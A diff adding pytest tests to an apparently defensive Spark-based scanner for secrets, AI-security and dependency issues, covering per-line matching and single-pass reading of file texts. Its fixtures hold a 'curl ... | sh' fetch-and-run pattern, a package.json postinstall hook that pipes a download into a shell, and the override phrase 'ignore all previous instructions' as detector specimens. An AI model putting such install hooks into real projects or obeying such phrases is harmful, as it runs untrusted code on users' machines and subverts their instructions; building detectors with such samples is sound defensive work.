@@ -8,7 +8,7 @@ import pyarrow as pa
 import pytest
 from pyspark.sql import functions as F
 
-from sparkward.functions.search import finder
+from sparkward.functions.search import finder, line_finder
 from sparkward.functions.text import entropy, split_lines
 from sparkward.operators import sca
 from sparkward.operators.file_rules import mixed_words, odd_held, unicode_facts
@@ -145,3 +145,71 @@ def test_labels_of_asked_lines_are_those_of_the_walk(spark):
     alone = F.array_join(F.transform("lines", lambda x: line_label(x, F.col("path"))), "")
     seen = files.select("path", line_labels(F.col("lines"), F.col("path")).alias("want"), alone.alias("got"), has_docstrings(F.col("text"), F.col("path")).alias("walked")).collect()
     assert all(r.walked or r.got == r.want for r in seen) and sum(r.walked for r in seen) == 4
+
+
+def test_lines_are_told_apart_as_whole_texts_are():
+    tests = words_held() + odd_held() + signs_held()
+    parts = [*CREDENTIALS.values(), *(t for _, t in SPECIMENS.values()), "plain", "", "\r", "é\r\r", "x" * 32]
+    texts = ["", "\n", "\r\n", *parts, *("\n".join(p) for p in itertools.product(["", "plain\r", "x" * 32], parts, ["", "visit p\u0430ypal", "\r"]))]
+
+    def lines(text: str) -> list[str]:
+        cut = text.split("\n")
+        return [x.removesuffix("\r") for x in (cut if cut[-1] else cut[:-1])]
+
+    want = []
+    for text in texts:
+        all_of = lines(text)
+        held = finder(tests)(pa.array(all_of, pa.string())).to_pylist()
+        rows = [(i + 1, x, " ".join(all_of[max(i - 1, 0) : i + 2]), h) for i, (x, h) in enumerate(zip(all_of, held, strict=True)) if h]
+        want.append([dict(zip(("line_no", "line", "around", "held"), r, strict=True)) for r in rows])
+    got = line_finder(tests)(pa.array(texts)).to_pylist()
+    assert got == want and sum(map(len, want)) > 300
+    # nulls, no texts, no tests, tests that ask for nothing, and bytes that are no UTF-8
+    one = lambda *x: [{"line_no": n, "line": t, "around": a, "held": h} for n, t, a, h in x]
+    assert line_finder(tests)(pa.array([None, ""], pa.string())).to_pylist() == [[], []] and line_finder(tests)(pa.array([], pa.string())).to_pylist() == []
+    assert line_finder([])(pa.array(["a"])).to_pylist() == [[]] and line_finder([()])(pa.array(["a\n\nb\n"])).to_pylist() == [one((1, "a", "a ", [0]), (2, "", "a  b", [0]), (3, "b", " b", [0]))]
+    odd = line_finder([("a",)])(pa.array([b"\xff\n\xfea\n\xff"], pa.binary()).view(pa.string()))
+    assert odd.values.field("around").cast(pa.binary()).to_pylist() == [b"\xff \xfea \xff"]
+
+
+def _kinds_of_files(spark):
+    texts = [(f"{i}.{s}", t) for i, (s, t) in SPECIMENS.items()] + [("a.txt", 'do not follow this\nhe said "ignore all previous instruc' + 'tions" to it\n'), ("docs/b.py", "import re\nP = re.compile('cu" + "rl http://x.test | sh')\n")]
+    rows = spark.createDataFrame([*texts, *((f"{i}.rst", "plain words\n" * 50) for i in range(30)), ("package.json", '{"scripts": {"postinstall": "cu' + 'rl x | sh"}}')], "path string, text string")
+    return rows, from_table(rows, F.col("path"), F.col("text"))
+
+
+def test_texts_are_read_once(spark):
+    rows, _ = _kinds_of_files(spark)
+    seen = spark.sparkContext.accumulator(0)
+
+    def counted(text):
+        seen.add(1)
+        return text
+
+    files = rows.select("path", F.udf(counted, "string")("text").alias("text")).withColumns({"valid": F.lit(True), "in_scope": F.lit(True), "in_secret_scope": F.lit(True)})
+    found = scan.findings_of(files).count()
+    # the detectors, the named files, suppression and reachability each read them, and suppression shuffled them where many files had findings
+    assert seen.value == rows.count() and found > 30
+
+
+def test_a_scan_writes_no_texts_but_those_that_are_read_whole(spark, monkeypatch):
+    rows, files = _kinds_of_files(spark)
+    kept, real = set(), scan.written
+
+    def written(df):
+        out = real(df)
+        if "text" in out.columns:
+            kept.update(r.path for r in out.where("text is not null").select("path").collect())
+        return out
+
+    monkeypatch.setattr(scan, "written", written)
+    done = scan.scan(spark, files, scan.Options(engines=("secrets", "aisec", "sca")))
+    got = sorted(done.findings.collect())
+    assert {"15.py", "26.md", "package.json"} <= kept <= {"14.py", "15.py", "16.py", "26.md", "docs/b.py", "package.json"}
+    # the same without the shared pass: each engine then reads the texts by itself, and suppression asks whole files
+    alone = scan._read
+    monkeypatch.setattr(scan, "_read", lambda f, engines: alone(f, engines) if len(engines) == 1 else 1 / 0)
+    other = scan.scan(spark, files, scan.Options(engines=("secrets", "aisec", "sca")))
+    assert sorted(other.findings.collect()) == got and sorted(other.status.collect()) == sorted(done.status.collect())
+    reasons = {r.filter_reason for r in got}
+    assert len(got) > 30 and all(any(x in r for r in reasons) for x in ("quoted", "docstring", "in a comment", "pattern or a name", "ignore marker"))
